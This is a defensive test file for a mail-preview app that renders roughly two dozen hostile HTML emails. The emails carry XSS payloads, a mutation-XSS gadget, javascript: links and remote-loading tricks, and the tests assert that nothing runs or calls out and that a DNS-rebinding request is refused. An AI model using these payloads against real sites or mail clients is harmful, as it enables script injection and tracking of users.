import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { launchBrowser, openPage } from '../../support/browser.ts'
import { startPostfang, type TestPostfang } from '../../support/start-postfang.ts'

/** Hostile mail is the normal case: no script of it runs, nothing is asked for from elsewhere, the top stays ours. */

let browser: Browser
let postfang: TestPostfang
/** A server elsewhere, which must never hear of us. */
const heard: string[] = []
const elsewhere = createServer((request, response) => {
  heard.push(request.url ?? '')
  response.end()
})
let away: string

beforeAll(async () => {
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
  away = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
  ;[browser, postfang] = await Promise.all([launchBrowser(), startPostfang()])
})
afterAll(async () => {
  await browser.close()
  await postfang.close()
  elsewhere.close()
})

/** Every way we know in which HTML runs something or fetches something; AWAY is the server elsewhere. */
const attacks = [
  '<script>document.title="ran"; fetch("AWAY/script")</script>',
  '<script src="AWAY/src.js"></script><script type=module src="AWAY/module.js"></script>',
  "<img src=x onerror=\"parent.postMessage('ran', '*')\"><svg onload=\"top.document.title='ran'\"></svg>",
  '<iframe srcdoc="<script>top.document.title=\'ran\'</script>"></iframe><iframe src="AWAY/frame"></iframe>',
  '<object data="AWAY/object"></object><embed src="AWAY/embed"><applet archive="AWAY/applet"></applet>',
  '<meta http-equiv="refresh" content="0; url=AWAY/refresh">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * \'unsafe-inline\'">',
  '<base href="AWAY/"><img src="relative.png"><link rel=stylesheet href="AWAY/style.css">',
  '<link rel=preload as=image href="AWAY/preload"><link rel=prefetch href="AWAY/prefetch">',
  '<link rel=dns-prefetch href="//dns.AWAYHOST"><link rel=preconnect href="AWAY"><link rel=icon href="AWAY/icon">',
  '<link rel=manifest href="AWAY/manifest"><link rel=modulepreload href="AWAY/modulepreload">',
  '<style>@import url("AWAY/import.css"); @font-face{font-family:x;src:url(AWAY/font)} body{font-family:x;background:url(AWAY/bg)}</style>',
  '<div style="background:url(AWAY/inline); list-style:url(AWAY/list); cursor:url(AWAY/cursor), auto; content:image-set(url(AWAY/set) 1x)">x</div>',
  '<img src="AWAY/img"><img srcset="AWAY/srcset 1x"><picture><source srcset="AWAY/source"><img></picture>',
  '<video src="AWAY/video" poster="AWAY/poster" autoplay></video><audio src="AWAY/audio" autoplay></audio><track src="AWAY/track">',
  '<svg><image href="AWAY/svg-image"/><use href="AWAY/use#x"/><filter><feImage href="AWAY/fe"/></filter></svg>',
  '<table background="AWAY/table"><tr><td background="AWAY/td">x</td></tr></table><body background="AWAY/body">',
  '<form action="AWAY/form"><input type=image src="AWAY/input"><button autofocus>x</button></form>',
  '<a id=ping href="#" ping="AWAY/ping">x</a><a id=js href="javascript:top.document.title=\'ran\'">x</a>',
  '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.document.title=1&gt;">',
  '<details open ontoggle="top.document.title=\'ran\'">x</details><marquee onstart="top.document.title=\'ran\'">x</marquee>',
  '<style>@namespace "AWAY/ns"; :root{--x:url(AWAY/var)} p{background:var(--x)}</style><p>x</p>',
  '<html manifest="AWAY/appcache"><body onload="top.document.title=\'ran\'" onpageshow="top.location=\'AWAY/top\'">',
]

it.each(attacks.map((html, index) => [index + 1, html] as const))(
  'shows attack %i without harm',
  async (number, template) => {
    const html = template.replaceAll('AWAYHOST', away.slice('http://'.length)).replaceAll('AWAY', away)
    const subject = `Attack ${number} "><img src=x onerror=document.title='ran'>`
    const id = await postfang.send({ from: 'a@example.com', to: 'b@example.com', subject, html }, 'hostile')
    await using screen = await openPage(browser)
    const { page, answered } = screen
    await page.addInitScript(
      'addEventListener("message", (event) => { document.title = "message: " + event.data })',
    )
    await page.goto(`${postfang.http}/message/${id}/preview?mailbox=hostile`)
    await page.frameLocator('iframe').locator('base').last().waitFor({ state: 'attached' })
    await page.frames()[1]?.waitForLoadState('load')
    for (const link of await page.frameLocator('iframe').locator('#ping, #js').all()) await link.click()
    await page.getByRole('tab', { name: 'Source' }).click()
    await page.getByRole('tab', { name: 'Source', selected: true }).waitFor()

    expect(new URL(page.url()).origin).toBe(postfang.http)
    expect(await page.title()).not.toMatch(/^ran|message:/u)
    expect(answered.filter((url) => !url.startsWith(postfang.http) && !url.startsWith('data:'))).toEqual([])
    expect(heard).toEqual([])
  },
)

it('gives scripts no chance when the frame is opened alone', async () => {
  const html = `<script>document.title='ran'</script><img src="${away}/alone"><p>safe</p>`
  const id = await postfang.send(
    { from: 'a@example.com', to: 'b@example.com', subject: 'x', html },
    'hostile',
  )
  await using screen = await openPage(browser)
  await screen.page.goto(`${postfang.http}/frame/${id}`, { waitUntil: 'networkidle' })
  await screen.page.getByText('safe').waitFor()
  expect(await screen.page.title()).toBe('')
  expect(heard).toEqual([])
})

it('is not read by a page of another name that resolves to us', async () => {
  const rebound = await launchBrowser(['--host-resolver-rules=MAP evil.test 127.0.0.1'])
  try {
    await using screen = await openPage(rebound)
    const port = new URL(postfang.http).port
    const response = await screen.page.goto(`http://evil.test:${port}/api/messages`)
    expect(response?.status()).toBe(421)
    expect(await response?.text()).not.toContain('hostile')
  } finally {
    await rebound.close()
  }
})
